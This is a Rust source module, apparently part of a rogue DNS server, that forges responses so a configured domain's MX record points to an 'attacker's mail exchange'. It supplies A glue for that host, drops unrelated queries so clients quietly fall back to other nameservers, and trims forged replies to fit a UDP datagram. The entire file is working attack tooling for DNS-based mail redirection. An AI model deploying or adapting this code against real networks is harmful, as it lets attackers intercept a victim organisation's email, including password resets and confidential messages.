//! Deciding whether to answer a query, and building the forged answer.
//!
//! Only two names are ever answered: the forged domain (which gets an
//! `MX` record naming the attacker's mail exchange, plus an `A` glue
//! record), and the attacker's mail exchange itself (which gets an
//! `A` record).  Other record types for those names get an empty
//! `NOERROR` response.  Everything else is dropped without a reply, so
//! clients fall back to whatever other nameserver they have.
//!
//! Replies are cut down to fit in 512 octets rather than being cut
//! mid-record: long names lose the glue first, then every answer.

use std::fmt;

use dns_types::protocol::deserialise;
use dns_types::protocol::types::*;

use crate::settings::Settings;

/// Which kind of response was built.
#[derive(Debug, Copy, Clone, Eq, PartialEq, Hash)]
pub enum ResponseKind {
    /// An `MX` answer for the forged domain, with `A` glue.
    ForgedMx,
    /// An `A` answer for the attacker's mail exchange.
    ForgedA,
    /// A name we answer for, but a type we don't: no records.
    Empty,
    /// An answer too big for a datagram, cut down to the question with
    /// TC set.
    Truncated,
}

impl ResponseKind {
    pub fn metric_label(self) -> &'static str {
        match self {
            ResponseKind::ForgedMx => "forged_mx",
            ResponseKind::ForgedA => "forged_a",
            ResponseKind::Empty => "empty",
            ResponseKind::Truncated => "truncated",
        }
    }
}

/// A datagram that gets no reply, and why.
#[derive(Debug, Clone, Eq, PartialEq)]
pub enum Ignored {
    Malformed(deserialise::Error),
    NotAQuery,
    UnsupportedOpcode(Opcode),
    QuestionCount(usize),
    UnsupportedClass(RecordClass),
    UnrelatedDomain(DomainName),
}

impl Ignored {
    pub fn metric_label(&self) -> &'static str {
        match self {
            Ignored::Malformed(_) => "malformed",
            Ignored::NotAQuery => "not_a_query",
            Ignored::UnsupportedOpcode(_) => "unsupported_opcode",
            Ignored::QuestionCount(_) => "question_count",
            Ignored::UnsupportedClass(_) => "unsupported_class",
            Ignored::UnrelatedDomain(_) => "unrelated_domain",
        }
    }
}

impl fmt::Display for Ignored {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
        match self {
            Ignored::Malformed(error) => write!(f, "malformed datagram: {error}"),
            Ignored::NotAQuery => write!(f, "message is a response"),
            Ignored::UnsupportedOpcode(opcode) => {
                write!(f, "unsupported opcode {opcode}")
            }
            Ignored::QuestionCount(n) => write!(f, "expected 1 question, got {n}"),
            Ignored::UnsupportedClass(qclass) => write!(f, "unsupported class {qclass}"),
            Ignored::UnrelatedDomain(name) => write!(f, "not forging for {name}"),
        }
    }
}

/// Decode a datagram and decide how to answer it.
///
/// # Errors
///
/// If the datagram gets no reply.
pub fn handle_raw_message(
    settings: &Settings,
    octets: &[u8],
) -> Result<(ResponseKind, Message), Ignored> {
    let query = Message::from_octets(octets).map_err(Ignored::Malformed)?;
    if let [question] = &query.questions[..] {
        tracing::info!(
            id = %query.header.id,
            name = %question.name,
            qtype = %question.qtype,
            qclass = %question.qclass,
            "query"
        );
    }
    forge_response(settings, &query)
}

/// Build the response to an already-decoded query.
///
/// # Errors
///
/// If the query gets no reply.
pub fn forge_response(
    settings: &Settings,
    query: &Message,
) -> Result<(ResponseKind, Message), Ignored> {
    if query.header.is_response {
        return Err(Ignored::NotAQuery);
    }
    if query.header.opcode != Opcode::QUERY {
        return Err(Ignored::UnsupportedOpcode(query.header.opcode));
    }
    let [question] = &query.questions[..] else {
        return Err(Ignored::QuestionCount(query.questions.len()));
    };
    if question.qclass != RecordClass::IN && question.qclass != RecordClass::ANY {
        return Err(Ignored::UnsupportedClass(question.qclass));
    }

    let is_forged_domain = question.name == settings.forged_domain;
    let is_attacker_mx = question.name == settings.attacker_mx;
    if !is_forged_domain && !is_attacker_mx {
        return Err(Ignored::UnrelatedDomain(question.name.clone()));
    }

    let (mut kind, mut response) = answer(settings, query, is_forged_domain, is_attacker_mx);
    match fit_to_datagram(&mut response) {
        Fit::Whole => (),
        Fit::WithoutGlue => tracing::debug!("reply too big, dropped the glue"),
        Fit::Truncated => kind = ResponseKind::Truncated,
    }

    Ok((kind, response))
}

/// The full answer, before it is made to fit in a datagram.
fn answer(
    settings: &Settings,
    query: &Message,
    is_forged_domain: bool,
    is_attacker_mx: bool,
) -> (ResponseKind, Message) {
    let mut response = query.make_response();
    let mut kind = ResponseKind::Empty;
    let Some(question) = query.questions.first() else {
        return (kind, response);
    };

    if is_forged_domain && question.qtype.matches(RecordType::MX) {
        response.answers.push(forged_mx_record(settings, &question.name));
        kind = ResponseKind::ForgedMx;
    }
    if is_attacker_mx && question.qtype.matches(RecordType::A) {
        response.answers.push(forged_a_record(settings));
        if kind == ResponseKind::Empty {
            kind = ResponseKind::ForgedA;
        }
    } else if kind == ResponseKind::ForgedMx {
        response.additional.push(forged_a_record(settings));
    }

    (kind, response)
}

/// How much of a reply survived `fit_to_datagram`.
#[derive(Debug, Copy, Clone, Eq, PartialEq, Hash)]
pub enum Fit {
    Whole,
    /// The additional section was dropped.
    WithoutGlue,
    /// Only the question is left, and TC is set.
    Truncated,
}

/// Cut a reply down until it encodes in at most 512 octets: first drop
/// the additional section, then every record, setting TC.  A question
/// alone always fits, since a name is at most 255 octets.
pub fn fit_to_datagram(response: &mut Message) -> Fit {
    if encoded_len(response) <= UDP_MAX_MESSAGE_LEN {
        return Fit::Whole;
    }

    if !response.additional.is_empty() {
        response.additional.clear();
        if encoded_len(response) <= UDP_MAX_MESSAGE_LEN {
            return Fit::WithoutGlue;
        }
    }

    response.answers.clear();
    response.authority.clear();
    response.header.is_truncated = true;
    Fit::Truncated
}

/// Whether the forged `MX` reply for these settings fits in a datagram.
/// The reply does not depend on anything in the query but the name's
/// case, so this can be checked once at startup.
pub fn forged_mx_fit(settings: &Settings) -> Fit {
    let query = Message::from_question(
        0,
        Question {
            name: settings.forged_domain.clone(),
            qtype: RecordType::MX,
            qclass: RecordClass::IN,
        },
    );
    let is_attacker_mx = settings.forged_domain == settings.attacker_mx;
    let (_, mut response) = answer(settings, &query, true, is_attacker_mx);
    fit_to_datagram(&mut response)
}

/// Messages too big to count are as good as too big to send.
fn encoded_len(message: &Message) -> usize {
    message
        .to_octets()
        .map_or(usize::MAX, |octets| octets.len())
}

/// The owner is the question name as the client wrote it, so the
/// serialiser points it back at the question.
fn forged_mx_record(settings: &Settings, owner: &DomainName) -> ResourceRecord {
    ResourceRecord {
        name: owner.clone(),
        rclass: RecordClass::IN,
        ttl: settings.ttl,
        data: RecordData::MX {
            preference: settings.preference,
            exchange: settings.attacker_mx.clone(),
        },
    }
}

fn forged_a_record(settings: &Settings) -> ResourceRecord {
    ResourceRecord {
        name: settings.attacker_mx.clone(),
        rclass: RecordClass::IN,
        ttl: settings.ttl,
        data: RecordData::A(settings.attacker_ip),
    }
}
